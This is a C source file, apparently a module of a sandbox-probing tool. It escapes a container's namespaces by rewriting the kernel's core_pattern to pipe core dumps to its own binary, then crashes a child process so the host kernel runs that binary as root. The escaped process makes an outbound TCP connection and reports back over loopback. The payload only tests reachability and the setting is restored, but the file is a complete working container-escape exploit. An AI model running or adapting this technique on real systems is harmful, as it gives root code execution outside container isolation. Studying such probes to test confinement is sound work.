/*
 * tech_first_linux.c - out of the command's namespaces, into the first ones of the guest's kernel.
 *
 * The kernel starts what kernel.core_pattern names, as root of its first namespaces; /proc/%P/root
 * leads from there to this program. So started it tries a connection, and tells by a datagram over
 * the loopback, which both places share, that it did.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>

#include "net.h"
#include "root_linux.h"
#include "techniques.h"
#include "verbs.h"

static const char setting[] = "/proc/sys/kernel/core_pattern";

/* A datagram socket on the loopback; its port. -1 with errno. */
static int listen_here(unsigned *port)
{
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t length = sizeof at;
    int fd = probe_socket(AF_INET, SOCK_DGRAM, 0);
    if (fd >= 0 && (bind(fd, (struct sockaddr *)&at, sizeof at) != 0 ||
                    getsockname(fd, (struct sockaddr *)&at, &length) != 0)) {
        close(fd);
        fd = -1;
    }
    *port = ntohs(at.sin_port);
    return fd;
}

static void crash(void)
{
    const struct rlimit any = {RLIM_INFINITY, RLIM_INFINITY};
    pid_t pid = fork();
    if (pid == 0) {
        setrlimit(RLIMIT_CORE, &any);
        raise(SIGSEGV);
        _exit(0);
    }
    while (pid > 0 && waitpid(pid, NULL, 0) < 0 && errno == EINTR)
        ;
}

static bool read_setting(char text[256])
{
    int fd = open(setting, O_RDONLY | O_CLOEXEC);
    ssize_t got = fd < 0 ? -1 : read(fd, text, 255);
    if (fd >= 0)
        close(fd);
    text[got > 0 ? got : 0] = '\0';
    return got > 0;
}

static void escape(const struct probe_step *step, struct probe_outcome *out)
{
    char pattern[256], before[256];
    struct probe_outcome there;
    unsigned port = 0;
    int fd = listen_here(&port);
    int length = snprintf(pattern, sizeof pattern, "|/proc/%%P/root%s tcp-once %s %s %u",
                          step->self->program, step->nonce, probe_param(step, "addr", ""), port);
    int failed = fd < 0 || !read_setting(before) ? errno : 0;
    if (failed == 0)
        failed = length >= 128 ? ENAMETOOLONG : probe_put_file(setting, pattern);
    if (failed == 0) {
        crash();
        probe_put_file(setting, before);
        if (probe_readable(fd, probe_left(step, 3)) &&
            recv(fd, &there, sizeof there, 0) == (ssize_t)sizeof there)
            probe_try(out, (enum probe_result)there.result, there.errnum,
                      "from the first namespaces: %.200s", there.detail);
        else
            failed = ETIMEDOUT;
    }
    if (failed != 0)
        probe_try(out, PROBE_ERROR, failed, "the first namespaces: %s", probe_errno_name(failed));
    if (fd >= 0)
        close(fd);
}

void probe_tech_first_namespaces(const struct probe_step *step, struct probe_outcome *out)
{
    if (probe_owns_kernel(step->self))
        escape(step, out);
    else
        probe_try(out, PROBE_ERROR, 0, "not a kernel of its own: left alone");
    probe_then(step, out);
}

int probe_verb_tcp_once(int argc, char **argv, char **envp)
{
    (void)envp;
    long port;
    struct probe_address to, teller;
    struct probe_outcome out = {0};
    if (argc != 4 || !probe_is_hex(argv[1], PROBE_NONCE) || !probe_number(argv[3], 1, 65535, &port))
        return -1;
    struct probe_step step = {.row = "",
                              .nonce = argv[1],
                              .deadline_ms = 1500,
                              .expires = probe_now() + 1500u * 1000000u};
    signal(SIGPIPE, SIG_IGN);
    if (!probe_address_make(&to, argv[2], 443) || !probe_address_make(&teller, "127.0.0.1", port))
        return -1;
    probe_tcp_once(&step, &to, NULL, 2, &out);
    int fd = probe_socket(AF_INET, SOCK_DGRAM, 0);
    ssize_t told = sendto(fd, &out, sizeof out, 0, probe_sockaddr(&teller), teller.length);
    if (fd >= 0)
        close(fd);
    return told == (ssize_t)sizeof out ? 0 : 1;
}
